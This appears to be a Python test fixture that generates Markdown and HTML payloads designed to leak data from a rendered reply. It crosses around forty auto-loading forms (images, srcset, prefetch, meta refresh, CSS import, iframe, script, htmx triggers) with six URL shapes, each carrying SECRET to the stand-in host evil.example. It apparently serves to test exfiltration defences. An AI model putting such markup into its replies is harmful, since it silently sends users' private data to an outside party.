"""Replies that try to send what they know to another host by merely being shown."""

from itertools import product

_HOST = "evil.example"
# "{}" is an address off our site.
_FORMS = (
    "![x]({})",
    '![x]({} "title")',
    "![x](<{}>)",
    "![x][r]\n\n[r]: {}",
    "![r]\n\n[r]: {}",
    "![r][]\n\n[r]: <{}> 'title'",
    "[![x]({})](/)",
    "[x]({})",
    "<{}>",
    "{}",
    "> ![x]({})",
    "- ![x]({})\n  - ![y]({})",
    "| a |\n|---|\n| ![x]({}) |",
    "# ![x]({})",
    "x[^1]\n\n[^1]: ![x]({})",
    "**![x]({})**",
    '<img src="{}">',
    '<img srcset="{} 1x">',
    '<picture><source srcset="{}"><img></picture>',
    '<video poster="{}" autoplay></video>',
    '<audio src="{}" autoplay></audio>',
    '<link rel="stylesheet" href="{}">',
    '<link rel="prefetch" href="{}"><link rel="dns-prefetch" href="{}">',
    '<link rel="preconnect" href="{}">',
    '<meta http-equiv="refresh" content="0;url={}">',
    "<style>@import '{}';</style>",
    '<p style="background:url({})">x</p>',
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object><embed src="{}">',
    '<script src="{}"></script>',
    '<svg><image href="{}"/><use href="{}#x"/></svg>',
    '<form action="{}"><button autofocus>x</button></form>',
    '<input type="image" src="{}">',
    '<base href="{}">![x](x.png)',
    '<a ping="{}" href="/">x</a>',
    '<div hx-get="{}" hx-trigger="load">x</div>',
    '<div data-stream="{}" class="ask">x</div>',
    '<table background="{}"><tr><td>x</td></tr></table>',
    '<body background="{}">',
    '<math><mtext><img src="{}"></mtext></math>',
)
_ADDRESSES = (
    f"https://{_HOST}/?d=SECRET",
    f"http://{_HOST}:8080/SECRET.png",
    f"//{_HOST}/SECRET",
    f"https://SECRET.{_HOST}/",
    f"\\\\{_HOST}\\SECRET",
    f"https:{_HOST}/SECRET",
)

VARIANTS = tuple(
    form.replace("{}", address) for form, address in product(_FORMS, _ADDRESSES)
)
